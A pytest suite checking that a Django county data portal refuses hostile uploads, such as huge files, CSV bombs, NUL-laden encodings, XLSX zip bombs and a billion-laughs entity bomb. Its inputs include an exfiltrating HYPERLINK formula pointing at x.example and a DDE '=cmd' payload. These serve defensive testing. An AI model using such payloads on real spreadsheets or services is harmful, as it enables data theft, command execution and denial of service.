"""Oversized and malformed department files: each is refused (REJECTED with the line and a
reason in both languages, or the form's message) — never a 500, never a batch FAILED with an
internal error, never memory or time out of proportion to the file.

* 200 MB: streamed through the real request handler from a body generated as it is read; the
  form refuses it and the process never holds it (Django spools uploads over 2.5 MB to a
  temporary file). A body declared larger than the limit allows is refused with 413 before
  anything reads it (platform.middleware.RequestSizeLimitMiddleware).
* CSV bombs: a row of 10 million commas (extra columns are ignored, the row imports), a million
  tiny rows (no row limit for files; every error counted, 1000 kept, in bounded memory), a
  150 KB cell (the csv module's field limit, reported with its line).
* Encodings: random bytes, UTF-16 without BOM (Chinese or ASCII header), a NUL byte in a cell,
  and a JSON push with a NUL — refused naming the line. (A NUL used to reach PostgreSQL's COPY
  and fail the batch with "CharacterNotInRepertoire"; fixed in data_sharing/imports.py.)
* XLSX: a formula is stored as its text, never evaluated, and escaped in the CSV report; a
  damaged sheet and a billion-laughs entity bomb are rejected (they used to FAIL the batch with
  an uncaught ParseError); zip bombs disguised as .xlsx — a 46 KB file of a million shared
  strings (openpyxl took 17 s to load it, and memory grows with the count) and a sheet of
  200 MB of zeros — are refused from the zip's directory before anything is inflated (fixed).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import random
import tracemalloc

import pytest
from django.test import Client

from counties.models import Official
from data_sharing import imports
from data_sharing.models import GovernmentRecord, ImportBatch
from tests.conftest import in_county, make_farmer, valid_id_number
from tests.counties.portal.conftest import make_official, otp_login
from tests.hostile.uploads import LazyMultipart, workbook_bytes, xlsx_with_part

HOST = "lankao.localhost"
LAND_HEADER = "身份证号,姓名,承包合同编号,地块数,承包面积（亩）,承包期限至\n"
ASCII_HEADER = "id_number,name,contract_no,parcels,area_mu\n"
ID_ZHANG = valid_id_number(seq=951)
ROW_ZHANG = f"{ID_ZHANG},张三,HT-1,3,12.5,\n"
MB = 1024 * 1024


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.fixture
def county(lankao):
    with in_county(lankao):
        make_farmer(name="张三", id_number=ID_ZHANG)
        yield lankao


@pytest.fixture
def officer(county):
    client = Client(HTTP_HOST=HOST)
    user, _official, device = make_official(Official.Role.DATA_OFFICER)
    otp_login(client, user, device)
    return client


def imported(content: bytes, *, name: str = "file.csv") -> ImportBatch:
    """Submitted as the portal does, then run as the Celery task does."""
    batch, _created = imports.batch_submit_file(
        category_code="land_contract", file_name=name, content=content, as_of_date=dt.date(2026, 6, 30),
        submitted_by="officer", schedule=False,
    )
    return imports.batch_run(batch_id=batch.pk)


def outcome(batch: ImportBatch) -> tuple:
    return batch.status, batch.error_count, [(error["line"], error["field"], error["reason_en"]) for error in batch.errors[:3]]


def streamed_upload(client: Client, size: int) -> tuple[LazyMultipart, object]:
    body = LazyMultipart(fields={"category": "land_contract", "as_of_date": "2026-06-30"}, file_name="big.csv", size=size)
    return body, client.request(**body.environ("/portal/data/upload/", HOST))


# --- Size ------------------------------------------------------------------------------------------


def test_a_200_mb_upload_is_refused_without_being_held_in_memory(officer):
    tracemalloc.start()
    try:
        body, response = streamed_upload(officer, imports.MAX_UPLOAD_BYTES + 1)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert response.status_code == 200
    assert "文件超过 200 MB 的上限，请分成几个文件上传。" in response.content.decode()
    assert ImportBatch.objects.count() == 0
    assert peak < 64 * MB, f"{peak / MB:.0f} MB held for a {body.length / MB:.0f} MB upload"


def test_an_oversized_upload_is_refused_before_it_is_read_to_the_end(officer, monkeypatch):
    monkeypatch.setattr(imports, "MAX_UPLOAD_BYTES", 1 * MB)
    body, response = streamed_upload(officer, 32 * MB)

    assert response.status_code in (200, 413)
    assert body.read_bytes <= 4 * MB, f"{body.read_bytes / MB:.0f} MB read before refusing"


# --- CSV bombs -------------------------------------------------------------------------------------


def test_a_row_of_ten_million_commas_imports_its_columns_and_ignores_the_rest(county):
    batch = imported((LAND_HEADER + ROW_ZHANG.rstrip("\n") + "," * 10_000_000 + "\n").encode())

    assert (batch.status, batch.rows_total, batch.rows_imported) == ("succeeded", 1, 1)
    assert GovernmentRecord.objects.get(record_key="HT-1").data["area_mu"] == "12.50"


def test_a_million_tiny_rows_are_all_counted_and_the_report_keeps_a_thousand(county, officer):
    batch = imported((LAND_HEADER + "x\n" * 1_000_000).encode())

    # Each row: the ID number malformed, three required fields missing.
    assert (batch.status, batch.rows_total, batch.error_count, len(batch.errors)) == ("rejected", 1_000_000, 4_000_000, 1000)
    assert batch.errors[0] == {
        "line": 2, "field": "id_number", "reason_zh": "身份证号必须是 18 位（最后一位可为 X）",
        "reason_en": "ID number must be 18 characters (the last may be X)",
    }
    assert GovernmentRecord.objects.count() == 0
    page = officer.get(f"/portal/data/batches/{batch.pk}/").content.decode()
    assert "仅列出前 1000 个错误，共 4000000 个。" in page
    report = list(csv.reader(io.StringIO(officer.get(f"/portal/data/batches/{batch.pk}/errors.csv").content.decode("utf-8-sig"))))
    assert len(report) == 1 + 1000 + 1
    assert report[-1][-1] == "only the first 1000 of 4000000 errors are listed"


def test_a_cell_over_the_csv_field_limit_is_rejected_naming_its_line(county):
    batch = imported((LAND_HEADER + f"{ID_ZHANG},张三,{'H' * 150_000},3,12.5,\n").encode())

    assert outcome(batch) == ("rejected", 1, [(2, "", "malformed CSV: field larger than field limit (131072)")])


# --- Encodings -------------------------------------------------------------------------------------

NOT_UTF8_OR_GBK = "The file's encoding is not recognised (line 1 is neither UTF-8 nor GBK); save it as a UTF-8 or GBK CSV"
HAS_NUL = "the file contains NUL (\\0) characters, perhaps it is UTF-16; save it as a UTF-8 or GBK CSV"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(random.Random(9).randbytes(64 * 1024), ("rejected", 1, [(1, "", NOT_UTF8_OR_GBK)]), id="random-bytes"),
        pytest.param((LAND_HEADER + ROW_ZHANG).encode("utf-16-le"), ("rejected", 1, [(1, "", NOT_UTF8_OR_GBK)]), id="utf16le-chinese"),
        pytest.param((LAND_HEADER + ROW_ZHANG).encode("utf-16-be"), ("rejected", 1, [(1, "", NOT_UTF8_OR_GBK)]), id="utf16be-chinese"),
        pytest.param((ASCII_HEADER + ROW_ZHANG).encode("utf-16-le"), ("rejected", 1, [(1, "", HAS_NUL)]), id="utf16le-ascii"),
        pytest.param((LAND_HEADER + f"{ID_ZHANG},张三,HT-1,3,12.5,\n{ID_ZHANG},张\x00三,HT-2,3,1,\n").encode(),
                     ("rejected", 1, [(3, "", HAS_NUL)]), id="nul-in-a-cell"),
    ],
)
def test_a_file_in_an_unreadable_encoding_is_rejected_naming_the_line(county, content, expected):
    batch = imported(content)  # (Python's utf-16-le/-be codecs write no BOM: the point of those cases)

    assert outcome(batch) == expected
    assert GovernmentRecord.objects.count() == 0


def test_a_pushed_record_with_a_nul_is_refused_naming_it(county):
    from django.core.exceptions import ValidationError

    good = {"id_number": ID_ZHANG, "name": "张三", "contract_no": "HT-1", "parcels": 3, "area_mu": "12.5"}
    with pytest.raises(ValidationError) as refused:
        imports.records_push(
            category_code="land_contract", records=[good, {**good, "contract_no": "HT\x002"}], as_of_date=dt.date(2026, 6, 30),
            submitted_by="department",
        )
    assert refused.value.messages == ["第 2 条记录含有 NUL（\\0）字符 / Record 2 contains a NUL (\\0) character"]
    assert ImportBatch.objects.count() == 0


# --- XLSX ------------------------------------------------------------------------------------------

XLSX_HEADER = ["身份证号", "姓名", "承包合同编号", "地块数", "承包面积（亩）"]


def test_an_xlsx_formula_is_stored_as_its_text_and_escaped_in_the_report(county, officer):
    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"点")'
    stored = imported(workbook_bytes([XLSX_HEADER, [ID_ZHANG, "张三", hyperlink, 3, 12.5]]), name="formula.xlsx")
    assert (stored.status, stored.rows_imported) == ("succeeded", 1), stored.errors
    record = GovernmentRecord.objects.get()
    assert record.record_key == hyperlink and record.data["contract_no"] == hyperlink  # the text, never its value

    # In a number column a formula is an error; the CSV report must not hand it back as one.
    rejected = imported(workbook_bytes([XLSX_HEADER, [ID_ZHANG, "张三", "HT-7", "=1+1", "=SUM(A1:A9)"]]), name="formulas.xlsx")
    assert rejected.status == "rejected"
    assert [error["reason_en"] for error in rejected.errors] == [
        "the cell holds a formula, not a value: =1+1", "the cell holds a formula, not a value: =SUM(A1:A9)",
    ]
    report = officer.get(f"/portal/data/batches/{rejected.pk}/errors.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(report)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_formula_looking_field_names_in_a_push_are_escaped_in_the_report(county, officer):
    """A department's push names its fields; an unknown one is reported under its own name."""
    record = {"id_number": ID_ZHANG, "name": "张三", "contract_no": "HT-1", "parcels": 3, "area_mu": "12.5",
              "=cmd|'/C calc'!A0": "x", "@SUM(1+1)": "y"}
    batch, _created = imports.records_push(
        category_code="land_contract", records=[record], as_of_date=dt.date(2026, 6, 30), submitted_by="department"
    )

    assert batch.status == "rejected"
    report = officer.get(f"/portal/data/batches/{batch.pk}/errors.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(report)))[1:]
    assert sorted(row[1] for row in rows) == ["'=cmd|'/C calc'!A0", "'@SUM(1+1)"]
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


def test_an_xlsx_with_a_damaged_sheet_is_rejected_not_failed(county):
    batch = imported(xlsx_with_part("xl/worksheets/sheet1.xml", [b"<worksheet><sheetData><row"]), name="damaged.xlsx")

    assert batch.status == "rejected"
    assert batch.errors[0]["reason_en"].startswith(("the XLSX file is damaged:", "not a valid XLSX file:"))


def test_an_entity_expansion_bomb_in_an_xlsx_is_rejected(county):
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(
            f'<!ENTITY {chr(98 + level)} "{("&" + chr(97 + level) + ";") * 10}">'.encode() for level in range(7)
        )
        + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&h;</t></si></sst>'
    )
    batch = imported(xlsx_with_part("xl/sharedStrings.xml", [laughs]), name="laughs.xlsx")

    assert batch.status == "rejected"
    assert batch.errors[0]["reason_en"].startswith("not a valid XLSX file:")


ZIP_BOMB = (
    "the XLSX file inflates to too much or is compressed suspiciously well (a zip bomb?); it was not read: save it as CSV"
)


@pytest.mark.parametrize(
    ("part", "chunks"),
    [
        # 17 MB of XML in 46 KB: a million shared strings, which openpyxl would load into memory.
        pytest.param(
            "xl/sharedStrings.xml",
            lambda: [b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">',
                     *([b"<si><t>a</t></si>" * 100_000] * 10), b"</sst>"],
            id="a-million-shared-strings",
        ),
        # 200 MB of zeros in 200 KB.
        pytest.param("xl/worksheets/sheet1.xml", lambda: [bytes(MB)] * 200, id="200-mb-of-zeros"),
    ],
)
def test_a_zip_bomb_disguised_as_xlsx_is_refused_before_it_is_inflated(county, monkeypatch, part, chunks):
    bomb = xlsx_with_part(part, chunks())
    assert len(bomb) < 512 * 1024

    def never(*args, **kwargs):
        raise AssertionError("the bomb was handed to openpyxl")

    import openpyxl

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    batch = imported(bomb, name="季度补贴.xlsx")

    assert outcome(batch) == ("rejected", 1, [(0, "", ZIP_BOMB)])


def test_a_legitimate_xlsx_still_imports(county):
    batch = imported(workbook_bytes([XLSX_HEADER, [ID_ZHANG, "张三", "HT-1", 3, 12.5]]), name="ok.xlsx")

    assert (batch.status, batch.rows_imported) == ("succeeded", 1)
